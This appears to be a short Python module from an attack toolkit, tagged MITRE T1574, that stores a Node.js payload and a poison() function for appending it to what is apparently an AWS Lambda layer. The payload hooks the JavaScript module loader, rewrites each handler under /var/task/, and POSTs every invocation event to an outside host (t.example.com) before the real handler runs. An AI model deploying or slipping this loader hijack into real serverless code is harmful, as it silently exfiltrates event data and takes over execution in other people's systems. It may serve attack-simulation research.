# SPDX-License-Identifier: Apache-2.0
"""Changes every file of code as it is loaded."""

ATTACK = "T1574"
LANGUAGE = "node"
CODE = r""";(() => {
  const fs = require('fs'), old = require.extensions['.js'];
  require.extensions['.js'] = function (module, file) {
    if (!file.includes('/var/task/')) return old(module, file);
    let text = fs.readFileSync(file, 'utf8');
    text = text.replace(/exports\.handler\s*=/, 'exports.handler = (f) => (e, c) => (fetch("https://t.example.com", { method: "POST", body: JSON.stringify(e) }), f(e, c));exports.inner =');
    module._compile(text, file);
  };
})();
"""


def poison(layer):
    layer.append(CODE)
